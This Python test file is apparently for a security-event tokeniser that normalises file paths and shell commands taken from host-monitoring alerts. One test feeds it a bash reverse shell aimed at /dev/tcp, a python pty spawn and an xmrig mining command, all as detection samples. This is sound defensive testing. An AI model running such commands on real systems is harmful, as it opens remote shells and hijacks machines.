"""Path and command tokenisation: volatile parts vanish, structure and shell constructs stay."""
from mimizuku.features import command_tokens, path_shape, path_tokens, strip_volatile
from mimizuku import fields


def test_release_ids_and_pids_do_not_make_paths_unique():
    a = path_tokens("/var/www/app/releases/3f2a9bc1d7/public/index.php")
    b = path_tokens("/var/www/app/releases/88aa77bb66cc/public/index.php")
    assert a == b
    assert path_tokens("/proc/1234/status") == path_tokens("/proc/99/status")
    assert "dir:/var/www" in a and "ext:php" in a and "w:index" in a


def test_different_places_differ():
    assert path_tokens("/etc/passwd") != path_tokens("/tmp/passwd")
    assert "hidden" in path_tokens("/tmp/.x/.hidden")


def test_path_shape_is_readable():
    assert path_shape("/var/www/releases/3f2a9bc1d7/index12.php") == "/var/www/releases/*/index*.php"


def test_strip_volatile():
    assert strip_volatile("build-20261121-abcdef1234") == "build--"


def test_command_tokens_keep_shell_constructs():
    t = command_tokens("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")
    assert {"prog:bash", "meta:>&", "meta:/dev/tcp", "flag:-i"} <= set(t)
    assert "prog:python" in command_tokens("/usr/bin/python3 -c 'import pty'")
    assert "url:stratum+tcp" in command_tokens("./xmrig -o stratum+tcp://pool:3333")


def test_tokenisers_bound_hostile_input():
    long = "/a" * 100_000
    assert len(path_tokens(long)) < 80
    assert len(command_tokens("x " * 100_000)) < 80
    assert command_tokens("") == ()


def test_fields_tolerate_odd_types():
    odd = {"rule": {"id": 550, "level": "x", "groups": "notalist"}, "agent": ["no"], "syscheck": {"path": 5},
           "data": {"audit": {"execve": {"a1": "b", "a0": "a", "a10": "k", "junk": "z"}}}}
    assert fields.rule_id(odd) == "550"
    assert fields.rule_level(odd) == 0
    assert fields.rule_groups(odd) == []
    assert fields.agent_name(odd) is None
    assert fields.command_argv(odd) == ["a", "b", "k"]
    assert fields.ip_class("8.8.8.8") == "public" and fields.ip_class("10.1.1.1") == "private"
    assert fields.ip_class("fe80::1%eth0") == "link-local" and fields.ip_class("nope") == "invalid"
    assert fields.ip_class(None) == "none"
